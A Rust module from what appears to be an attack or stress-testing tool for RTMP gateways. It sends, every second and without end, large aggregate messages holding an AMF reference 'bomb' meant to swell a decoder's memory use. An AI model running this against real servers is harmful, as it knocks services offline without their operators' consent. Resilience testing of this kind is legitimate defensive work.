//! Aggregate messages full of data messages that unfold by references.
//!
//! A gateway that decodes all parts of a message before it uses the first holds some 100 KiB for
//! each 106 bytes of it.

use std::time::Duration;

use tokio::time::sleep;

use super::amf::{AGGREGATE, aggregate, bomb};
use super::context::Context;
use super::error::AttackError;
use super::rtmp::RtmpPeer;

/// Bytes of one aggregate.
const SIZE: usize = 255 << 10;

/// From one aggregate to the next.
const INTERVAL: Duration = Duration::from_secs(1);

pub(super) async fn run(context: &Context) -> Result<(), AttackError> {
    let payload = aggregate(&bomb(), SIZE);
    let mut publisher = RtmpPeer::publish(context, 0, "aggregate").await?;
    loop {
        publisher
            .send(context, AGGREGATE, 0, payload.clone())
            .await?;
        context.add("aggregates", 1.0);
        sleep(INTERVAL).await;
    }
}
